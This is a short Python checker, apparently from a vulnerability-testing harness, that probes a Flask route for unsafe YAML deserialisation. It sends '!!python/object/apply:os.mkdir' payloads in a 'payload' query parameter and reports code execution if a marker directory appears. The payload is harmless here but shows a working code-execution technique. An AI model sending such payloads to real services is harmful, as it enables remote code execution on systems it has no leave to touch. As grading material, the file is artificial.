"""Shared exploit logic for unsafe YAML deserialisation of a `payload` query parameter."""

import os

import dgcheck


def exploit(ctx, route, before=None):
    module, fail = dgcheck.load_or_fail(ctx, "app")
    if fail:
        return dgcheck.exploit_result([], "not exploitable: " + fail["detail"])
    client = dgcheck.flask_client(module, secret=True)
    dgcheck.make_marker_dir(ctx)
    marker = dgcheck.marker_path(ctx, "yaml_apply")
    payloads = (
        f'!!python/object/apply:os.mkdir ["{marker}"]',
        f'{{name: !!python/object/apply:os.mkdir ["{marker}"], latitude: 1, longitude: 1, date: x,'
        f' product_code: A, code: A, quantity: 1}}',
    )
    notes = []
    for payload in payloads:
        if before:
            before()
        _, err = dgcheck.attempt(lambda: client.get(route, query_string={"payload": payload}))
        notes.append(err or "ok")
        if os.path.exists(marker):
            return dgcheck.exploit_result(
                [dgcheck.finding("yaml-code-execution",
                                 "a !!python/object/apply payload executed os.mkdir")], "")
    return dgcheck.exploit_result([], "; ".join(notes))
